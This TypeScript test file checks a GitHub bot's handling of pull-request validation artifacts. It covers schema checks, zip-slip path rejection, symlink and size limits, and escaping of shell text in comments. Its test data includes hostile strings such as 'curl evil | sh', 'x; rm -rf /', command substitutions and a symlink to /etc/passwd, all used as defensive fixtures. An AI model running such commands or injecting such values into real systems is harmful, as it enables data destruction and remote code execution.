import { mkdirSync, mkdtempSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { checkArtifactEntries, consumeValidationArtifact, MAX_ARTIFACT_BYTES } from "../../scripts/lib/bot/artifact/consume.ts";
import { buildValidationArtifact } from "../../scripts/lib/bot/artifact/produce.ts";
import { computeActions } from "../../scripts/lib/bot/policy/compute-actions.ts";
import { ARTIFACT_LIMITS } from "../../scripts/lib/bot/schemas.ts";
import { SHOWN_FINDINGS } from "../../scripts/lib/bot/validation-summary.ts";
import { pullRequestOpened } from "../support/fake-github/events.ts";
import { makeConfig, makeFacts } from "./facts-builder.ts";
import { createScenario } from "./scenario.ts";

const HEAD = "f".repeat(40);
const RUN = { id: 5001, headSha: HEAD, event: "pull_request", path: ".github/workflows/validate.yml" };
const PR = { number: 7, headSha: HEAD };
const FINDING = { ruleId: "schema", severity: "error", file: "countries/rwa/country.json", line: 3, column: 5, message: "region: unknown value" };

function artifactDir(content: unknown, name = "result.json"): string {
  const dir = mkdtempSync(join(tmpdir(), "cop-artifact-"));
  writeFileSync(join(dir, name), typeof content === "string" ? content : JSON.stringify(content));
  return dir;
}

function valid(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return { schemaVersion: 1, headSha: HEAD, prNumber: 7, findings: [FINDING], ...overrides };
}

const consume = (dir: string, run = RUN, pullRequest = PR) =>
  consumeValidationArtifact({ dir, run, pullRequest, expectedWorkflowPath: ".github/workflows/validate.yml" });

describe("consumeValidationArtifact", () => {
  test("accepts a valid artifact and summarises it", async () => {
    const result = await consume(artifactDir(valid()));
    expect(result).toEqual({ ok: true, summary: { runId: 5001, headSha: HEAD, errors: 1, warnings: 0, findings: [FINDING] } });
  });

  const malicious: { name: string; content: unknown; reason: RegExp }[] = [
    { name: "PR number as a string", content: valid({ prNumber: "7" }), reason: /prNumber must be integer/ },
    { name: "a huge PR number", content: valid({ prNumber: 1e20 }), reason: /prNumber must be <=/ },
    { name: "a fractional line", content: valid({ findings: [{ ...FINDING, line: 1.5 }] }), reason: /line must be integer/ },
    { name: "an unknown severity", content: valid({ findings: [{ ...FINDING, severity: "fatal" }] }), reason: /must be equal to one of the allowed values/ },
    {
      name: "an oversized findings array",
      content: valid({ findings: Array(ARTIFACT_LIMITS.maxFindings + 1).fill(FINDING) }),
      reason: /must NOT have more than/,
    },
    {
      name: "an over-long message",
      content: valid({ findings: [{ ...FINDING, message: "x".repeat(1001) }] }),
      reason: /must NOT have more than 1000 characters/,
    },
    { name: "an extra field", content: valid({ run: "curl evil | sh" }), reason: /must NOT have additional properties/ },
    { name: "a rule id with shell characters", content: valid({ findings: [{ ...FINDING, ruleId: "x; rm -rf /" }] }), reason: /ruleId must match pattern/ },
    { name: "a short head sha", content: valid({ headSha: "abc" }), reason: /headSha must match pattern/ },
    { name: "another schema version", content: valid({ schemaVersion: 2 }), reason: /schemaVersion must be equal to constant/ },
    { name: "not JSON", content: '{"schemaVersion": 1,', reason: /not valid JSON/ },
    { name: "a headSha that is not the run's", content: valid({ headSha: "e".repeat(40) }), reason: /not the run's/ },
    { name: "another pull request's number", content: valid({ prNumber: 8 }), reason: /another pull request/ },
  ];
  test.for(malicious)("refuses $name", async ({ content, reason }) => {
    const result = await consume(artifactDir(content));
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.reason).toMatch(reason);
      expect(result.stale).toBe(false);
    }
  });

  test('accepts a message carrying shell text ("; rm -rf) as data, and the comment shows it inert', async () => {
    const message = 'Title "; rm -rf / ; $(curl evil) `id` @mallory';
    const result = await consume(artifactDir(valid({ findings: [{ ...FINDING, message }] })));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const facts = makeFacts((f) => {
      f.pr.headSha = HEAD;
      f.validation.runs = [{ ...f.validation.runs[0], id: 5001, headSha: HEAD } as (typeof f.validation.runs)[number]];
      f.validation.artifact = result.summary;
    });
    const body = computeActions(facts, makeConfig(), new Date()).comment.body;
    expect(body).toContain("Title &quot;; rm -rf / ; &#36;&#40;curl evil&#41; &#96;id&#96; @\u2060mallory");
  });

  test("a pull request whose head moved is stale, not an attack", async () => {
    const result = await consume(artifactDir(valid()), RUN, { number: 7, headSha: "9".repeat(40) });
    expect(result).toMatchObject({ ok: false, stale: true });
  });

  test("refuses a run of another workflow or event", async () => {
    expect(await consume(artifactDir(valid()), { ...RUN, path: ".github/workflows/evil.yml" })).toMatchObject({ ok: false });
    expect(await consume(artifactDir(valid()), { ...RUN, event: "push" })).toMatchObject({ ok: false });
  });

  test("refuses a missing folder, an extra file, a folder, a symbolic link and an oversized file", async () => {
    expect(await consume(join(tmpdir(), "does-not-exist-cop"))).toMatchObject({ ok: false, reason: /not downloaded/ });

    const extra = artifactDir(valid());
    writeFileSync(join(extra, "run.sh"), "echo pwned");
    expect(await consume(extra)).toMatchObject({ ok: false, reason: /exactly result.json/ });

    const nested = mkdtempSync(join(tmpdir(), "cop-artifact-"));
    mkdirSync(join(nested, "result.json"));
    expect(await consume(nested)).toMatchObject({ ok: false, reason: /not a regular file \(dir\)/ });

    const linked = mkdtempSync(join(tmpdir(), "cop-artifact-"));
    symlinkSync("/etc/passwd", join(linked, "result.json"));
    expect(await consume(linked)).toMatchObject({ ok: false, reason: /not a regular file \(symlink\)/ });

    const big = artifactDir(valid());
    truncateSync(join(big, "result.json"), MAX_ARTIFACT_BYTES + 1);
    expect(await consume(big)).toMatchObject({ ok: false, reason: /size cap/ });
  });
});

describe("checkArtifactEntries (zip-slip and size)", () => {
  const file = (name: string, size = 10) => ({ name, size, type: "file" as const });
  test.for([
    { name: "../result.json", reason: /climbs out/ },
    { name: "a/../../result.json", reason: /climbs out/ },
    { name: "..\\..\\result.json", reason: /climbs out/ },
    { name: "/etc/passwd", reason: /absolute/ },
    { name: "C:\\Windows\\x", reason: /absolute/ },
    { name: "result\u0000.json", reason: /forbidden character/ },
    { name: "sub\\result.json", reason: /forbidden character/ },
  ])("refuses the entry name $name", ({ name, reason }) => {
    expect(checkArtifactEntries([file(name)])).toMatch(reason);
  });

  test("refuses too many entries and a total over the cap", () => {
    expect(checkArtifactEntries(Array.from({ length: 20 }, (_, i) => file(`f${i}`)))).toMatch(/20 entries/);
    expect(checkArtifactEntries([file("result.json", MAX_ARTIFACT_BYTES), file("b", MAX_ARTIFACT_BYTES)])).toMatch(/size cap/);
  });

  test("accepts exactly result.json", () => {
    expect(checkArtifactEntries([file("result.json")])).toBeNull();
  });
});

describe("buildValidationArtifact", () => {
  const scenario = createScenario();
  const event = pullRequestOpened(scenario.github, scenario.github.pull(7));

  test("writes {schemaVersion, headSha, prNumber, findings} from the validator output and the event", () => {
    const output = {
      schemaVersion: 1,
      summary: { files: 1, errors: 1, warnings: 1 },
      diagnostics: [{ ...FINDING, severity: "warning", hint: "Fix it." }, FINDING],
    };
    const result = buildValidationArtifact(output, event);
    expect(result).toEqual({
      ok: true,
      artifact: { schemaVersion: 1, headSha: scenario.headSha, prNumber: 7, findings: [FINDING, { ...FINDING, severity: "warning", hint: "Fix it." }] },
    });
  });

  test("fits oversized output to the limits instead of failing", () => {
    const many = Array.from({ length: 2500 }, () => ({ ...FINDING, severity: "warning", message: "m".repeat(5000), ruleId: "Bad Rule!", line: 1e12 }));
    const result = buildValidationArtifact({ diagnostics: [...many, FINDING] }, event);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.artifact.findings).toHaveLength(ARTIFACT_LIMITS.maxFindings);
    expect(result.artifact.findings[0]).toEqual(FINDING);
    expect(result.artifact.findings[1]).toMatchObject({ ruleId: "unknown-rule", line: ARTIFACT_LIMITS.maxPosition });
    expect([...(result.artifact.findings[1]?.message ?? "")]).toHaveLength(1000);
  });

  test("carries the message in the six languages for the findings the comment shows, and nothing else", async () => {
    const messages = {
      ar: "المنطقة: قيمة غير معروفة",
      zh: "地区：未知值",
      en: FINDING.message,
      fr: "région : valeur inconnue",
      ru: "регион: неизвестное значение",
      es: "región: valor desconocido",
    };
    const many = Array.from({ length: 30 }, (_, i) => ({ ...FINDING, line: i + 1, messages: { ...messages, de: "Region: unbekannt", fr: "é".repeat(3000) } }));
    const result = buildValidationArtifact({ diagnostics: many }, event);
    if (!result.ok) throw new Error(result.error);
    const first = result.artifact.findings[0];
    expect(Object.keys(first?.messages ?? {})).toEqual(["ar", "zh", "en", "fr", "ru", "es"]);
    expect(first?.messages?.zh).toBe("地区：未知值");
    expect([...(first?.messages?.fr ?? "")]).toHaveLength(ARTIFACT_LIMITS.maxMessage);
    expect(result.artifact.findings.filter((f) => f.messages)).toHaveLength(SHOWN_FINDINGS);
    expect(result.artifact.findings[SHOWN_FINDINGS]?.messages).toBeUndefined();
    // The bot refuses what the validator would never write: a language outside the six.
    expect(await consume(artifactDir(valid({ findings: [{ ...FINDING, messages: { de: "Region: unbekannt" } }] })))).toMatchObject({ ok: false });
  });

  test("refuses an event that is not a pull_request event, and malformed output", () => {
    expect(buildValidationArtifact({ diagnostics: [] }, { schedule: "* * * * *" })).toMatchObject({ ok: false, error: /not a pull_request event/ });
    expect(buildValidationArtifact({ diagnostics: [{ ruleId: "x" }] }, event)).toMatchObject({ ok: false, error: /validator output/ });
  });
});
